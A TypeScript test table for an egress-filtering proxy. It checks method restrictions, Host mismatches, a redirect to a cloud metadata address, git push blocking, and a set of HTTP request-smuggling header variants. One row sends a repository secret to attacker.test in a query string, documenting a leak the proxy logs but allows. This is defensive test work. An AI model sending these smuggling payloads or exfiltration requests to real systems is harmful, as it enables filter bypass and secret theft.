import { allow, CLOSED, deny, malformed, refused, type Row } from '../row.ts'

const METHODS = ['PUT', 'PATCH', 'DELETE', 'PROPFIND', 'QUERY', 'TRACE', 'PURGE', 'SEARCH']
const OVERRIDES = ['X-HTTP-Method-Override', 'X-Method-Override', 'X-HTTP-Method']
const HEAD = 'Host: allowed.test\\r\\nConnection: close\\r\\n\\r\\n'

/** Methods, paths, and what HTTP means. */
export const HTTP: readonly Row[] = [
  {
    id: 'D02',
    what: 'POST where only reading is allowed',
    policy: 'RO',
    script: 'ask -X POST http://allowed.test/; ask -d x https://allowed.test/',
    sees: [refused(403, 'method')],
    ledger: [
      deny('method', 'http', { method: 'POST', port: 80 }),
      deny('method', 'http', { method: 'POST', port: 443 }),
    ],
  },
  {
    id: 'D02',
    what: 'control: POST where all methods are allowed',
    policy: 'RW',
    script: 'ask -d x http://allowed.test/post',
    sees: [/from upstream/],
    ledger: [allow('allowed.test', { method: 'POST' })],
    upstream: ['POST http://allowed.test/post'],
  },
  ...METHODS.map((method): Row => ({
    id: 'D03',
    what: `${method} where only reading is allowed`,
    policy: 'RO',
    script: `ask -X ${method} https://allowed.test/x`,
    sees: [refused(403, 'method')],
    ledger: [deny('method', 'http', { method, status: 403 })],
  })),
  {
    id: 'D03',
    what: 'control: the same methods where all are allowed, but for TRACE',
    policy: 'RW',
    script: METHODS.map((method) => `ask -X ${method} http://allowed.test/x`).join('; '),
    ledger: METHODS.map((method) => (method === 'TRACE' ? deny('method', 'http') : allow('allowed.test', { method }))),
    upstream: METHODS.filter((method) => method !== 'TRACE').map((method) => `${method} http://allowed.test/x`),
  },
  ...OVERRIDES.map((header): Row => ({
    id: 'D05',
    what: `GET that asks for another method by ${header}`,
    policy: 'RO',
    script: `ask -H '${header}: DELETE' https://allowed.test/x`,
    sees: [refused(403, 'header')],
    ledger: [deny('header', 'http', { method: 'GET', status: 403 })],
  })),
  {
    id: 'D06',
    what: 'GET with a body',
    policy: 'RO',
    script: 'ask -X GET -d hello http://allowed.test/x',
    sees: [refused(403, 'body')],
    ledger: [deny('body', 'http', { method: 'GET', status: 403 })],
  },
  {
    id: 'D08',
    what: 'OPTIONS of the whole server',
    policy: 'RO',
    script: `raw 'OPTIONS * HTTP/1.1\\r\\n${HEAD}' 3128`,
    sees: [/^HTTP\/1\.1 200 /],
    ledger: [allow('allowed.test', { method: 'OPTIONS', path: '*' })],
    upstream: ['OPTIONS http://allowed.test*'],
  },
  {
    id: 'D08',
    what: 'OPTIONS with a body',
    policy: 'RO',
    script: 'ask -X OPTIONS -d hello http://allowed.test/x',
    sees: [refused(403, 'body')],
    ledger: [deny('body', 'http', { method: 'OPTIONS' })],
  },
  {
    id: 'D09',
    what: 'CONNECT inside of a connection that is looked into',
    policy: 'RO',
    script: `raw 'CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n' 3128 connect=allowed.test:443 sni=allowed.test`,
    sees: [refused(405, 'malformed')],
    ledger: [deny('malformed', 'connect', { status: 405 })],
  },
  {
    id: 'D11',
    what: 'a target and a Host field that differ',
    policy: 'RO',
    script: `raw 'GET http://allowed.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n' 3128`,
    sees: malformed,
    ledger: [deny('malformed', 'http', { status: 400 })],
  },
  {
    id: 'D12',
    what: 'a proxy is asked to speak TLS for the client',
    policy: 'RO',
    script: `raw 'GET https://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n' 3128`,
    sees: malformed,
    ledger: [deny('malformed', 'http', { status: 400 })],
  },
  ...[
    ['HTTP/1.0 without a Host field', 'GET http://allowed.test/ HTTP/1.0\\r\\n\\r\\n'],
    ['HTTP/0.9', 'GET http://allowed.test/\\r\\n'],
    ['HTTP/1.2', 'GET http://allowed.test/ HTTP/1.2\\r\\nHost: allowed.test\\r\\n\\r\\n'],
  ].map(([what = '', bytes = '']): Row => ({
    id: 'D14',
    what,
    policy: 'RO',
    script: `raw '${bytes}' 3128`,
    sees: malformed,
    ledger: [deny('malformed', 'http', { status: 400 })],
  })),
  {
    id: 'D15',
    what: 'a redirect to an address is the client’s to follow, and then refused',
    policy: 'RO',
    script: 'ask -L http://allowed.test/redirect',
    sees: [/HTTP\/1\.1 302 /, refused(403, 'ip-literal')],
    ledger: [
      allow('allowed.test', { status: 302 }),
      deny('ip-literal', 'http', { asked: '169.254.169.254', status: 403 }),
    ],
    upstream: ['GET http://allowed.test/redirect'],
  },
  {
    id: 'D17',
    what: 'git clone over HTTPS where git may read',
    policy: 'GIT',
    script: 'rm -rf /tmp/r && git clone -q https://allowed.test/o/r.git /tmp/r && cat /tmp/r/hello',
    sees: [/hello from the repository/],
    ledger: [
      allow('allowed.test', { method: 'GET', path: '/o/r.git/info/refs?service=git-upload-pack' }),
      allow('allowed.test', { method: 'POST', path: '/o/r.git/git-upload-pack' }),
      allow('allowed.test', { method: 'POST', path: '/o/r.git/git-upload-pack' }),
    ],
    upstream: [
      'GET https://allowed.test/o/r.git/info/refs?service=git-upload-pack',
      'POST https://allowed.test/o/r.git/git-upload-pack',
      'POST https://allowed.test/o/r.git/git-upload-pack',
    ],
  },
  {
    id: 'D17',
    what: 'the request of git fetch without what git says about it is a POST',
    policy: 'GIT',
    script: 'ask -d 0000 https://allowed.test/o/r.git/git-upload-pack',
    sees: [refused(403, 'method')],
    ledger: [deny('method', 'http', { method: 'POST' })],
  },
  {
    id: 'D18',
    what: 'git push where git may read',
    policy: 'GIT',
    script: `cd /tmp/r && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x; git push -q origin HEAD:refs/heads/x; echo "[exit $?]"
ask -X POST -H 'content-type: application/x-git-receive-pack-request' https://allowed.test/o/r.git/git-receive-pack`,
    sees: [/\[exit (1|128)\]/, refused(403, 'path')],
    ledger: [
      deny('path', 'http', { path: '/o/r.git/info/refs?service=git-receive-pack' }),
      deny('path', 'http', { path: '/o/r.git/git-receive-pack', method: 'POST' }),
    ],
  },
  {
    id: 'D18',
    what: 'control: the same push where all methods are allowed',
    policy: 'RW',
    script: 'cd /tmp/r && git push -q origin HEAD:refs/heads/x; echo "[exit $?]"',
    sees: [/\[exit 0\]/],
    ledger: [
      allow('allowed.test', { path: '/o/r.git/info/refs?service=git-receive-pack' }),
      allow('allowed.test', { method: 'POST', path: '/o/r.git/git-receive-pack' }),
    ],
    upstream: [
      'GET https://allowed.test/o/r.git/info/refs?service=git-receive-pack',
      'POST https://allowed.test/o/r.git/git-receive-pack',
    ],
  },
  {
    id: 'D20',
    what: 'what remains: a secret in the path to a host that is allowed; the ledger shows it',
    policy: 'ALLRO',
    script: 'ask "https://attacker.test/?stolen=secret-of-the-repository"',
    sees: [/from upstream/],
    ledger: [allow('attacker.test', { path: '/?stolen=secret-of-the-repository' })],
    upstream: ['GET https://attacker.test/?stolen=secret-of-the-repository'],
  },
]

/** One parser's two requests are another's one. */
const smuggled: readonly [string, string, string][] = [
  ['G01', 'a length and chunks', 'Content-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n'],
  ['G03', 'identity, then chunked', 'Transfer-Encoding: identity\\r\\nTransfer-Encoding: chunked\\r\\n'],
  ['G03', 'gzip, chunked', 'Transfer-Encoding: gzip, chunked\\r\\n'],
  ['G03', 'chunked in quotes', 'Transfer-Encoding: "chunked"\\r\\n'],
  ['G04', 'two lengths that differ', 'Content-Length: 4\\r\\nContent-Length: 5\\r\\n'],
  ['G04', 'a length with a sign', 'Content-Length: +4\\r\\n'],
  ['G04', 'a length on a folded line', 'X-A: b\\r\\n Content-Length: 4\\r\\n'],
  ['G04', 'a blank before the colon', 'Content-Length : 4\\r\\n'],
  ['G06', 'two Host fields that differ', 'Host: evil.test\\r\\n'],
  ['G06', 'two Host fields that are the same', 'Host: allowed.test\\r\\n'],
]

export const SMUGGLING: readonly Row[] = [
  ...smuggled.map(([id, what, fields]): Row => ({
    id,
    what,
    policy: 'RW',
    script: `raw 'POST http://allowed.test/s HTTP/1.1\\r\\nHost: allowed.test\\r\\n${fields}\\r\\n0\\r\\n\\r\\nGET http://allowed.test/smuggled HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n' 3128`,
    sees: malformed,
    ledger: [deny('malformed', 'http', { status: 400 })],
  })),
  {
    id: 'G01',
    what: 'control: the same with chunks alone',
    policy: 'RW',
    script: `raw 'POST http://allowed.test/s HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n${HEAD}4\\r\\nabcd\\r\\n0\\r\\n\\r\\n' 3128`,
    sees: [/from upstream/],
    ledger: [allow('allowed.test', { method: 'POST' })],
    upstream: ['POST http://allowed.test/s'],
  },
  {
    id: 'G07',
    what: 'empty lines before a request hide nothing of it',
    policy: 'RO',
    script: `raw '\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n' 80`,
    sees: [/x-drydock-denied: (host|malformed)/i, CLOSED],
    ledger: [{ verdict: 'deny', layer: 'http' }],
  },
  {
    id: 'G09',
    what: 'another Host field on a connection that is kept',
    policy: 'RO',
    script: `raw 'GET /first HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\nGET /second HTTP/1.1\\r\\nHost: x.cdn.test\\r\\n\\r\\n' 443 sni=allowed.test`,
    sees: [/from upstream/, refused(403, 'host-mismatch')],
    ledger: [
      allow('allowed.test', { path: '/first' }),
      deny('host-mismatch', 'http', { path: '/second', asked: 'x.cdn.test' }),
    ],
    upstream: ['GET https://allowed.test/first'],
  },
]
